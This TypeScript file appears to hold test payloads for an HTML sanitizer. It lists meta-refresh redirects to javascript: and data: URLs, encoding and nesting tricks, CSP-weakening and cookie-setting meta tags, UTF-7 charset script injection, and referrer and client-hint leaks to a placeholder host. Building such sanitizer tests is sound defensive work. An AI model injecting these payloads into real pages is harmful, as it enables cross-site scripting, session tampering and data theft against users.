import type { Family } from "./payloads.ts";

const contents = [
  "0;url=ELSEWHERE/refresh",
  "0; URL='ELSEWHERE/refresh'",
  "0 ELSEWHERE/refresh",
  "0,ELSEWHERE/refresh",
  ".0;url=ELSEWHERE/refresh",
  "0;url=http:ELSEWHERE/refresh",
  "0;url=javascript:RUN",
  "0;url=data:text/html,<script>RUN</script>",
  "0;url=/sign-out",
  "0",
];

const refreshes = [
  ...contents.map((content) => `<meta http-equiv=refresh content="${content}">`),
  '<META HTTP-EQUIV="Refresh" CONTENT="0;url=ELSEWHERE/refresh">',
  '<meta http-equiv="&#114;efresh" content="0;url=ELSEWHERE/refresh">',
  '<svg><meta http-equiv=refresh content="0;url=ELSEWHERE/refresh"></svg>',
  '<div><template shadowrootmode=open><meta http-equiv=refresh content="0;url=ELSEWHERE/refresh"></template></div>',
  '<noscript><meta http-equiv=refresh content="0;url=ELSEWHERE/refresh"></noscript>',
  '<iframe srcdoc="<meta http-equiv=refresh content=0;url=ELSEWHERE/refresh>"></iframe>',
  '<iframe srcdoc="<base target=_top><form action=ELSEWHERE/form><button autofocus>"></iframe>',
];

/** Meta elements that would change the page's policy or its referrer. */
const metas = [
  `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>RUN</script>`,
  `<meta http-equiv=Content-Security-Policy content="default-src 'none'"><img src=x: onerror=RUN>`,
  "<meta http-equiv=set-cookie content=owned=1><img src=x: onerror=RUN>",
  "<meta http-equiv=content-type content='text/html; charset=utf-7'>+ADw-script+AD4-RUN+ADw-/script+AD4-",
  "<meta charset=iso-2022-jp><img src=x: onerror=RUN>",
  "<meta name=referrer content=unsafe-url><img src=ELSEWHERE/referrer>",
  '<meta http-equiv=origin-trial content=x><img src="ELSEWHERE/trial">',
  '<meta http-equiv=x-dns-prefetch-control content=on><a href="#">a</a><img src="ELSEWHERE/dns">',
  '<meta http-equiv=delegate-ch content="sec-ch-ua-model ELSEWHERE"><img src="ELSEWHERE/hints">',
];

export const navigations: Family[] = [
  { name: "a refresh to somewhere else", html: refreshes, alone: true },
  { name: "a meta element", html: metas },
];
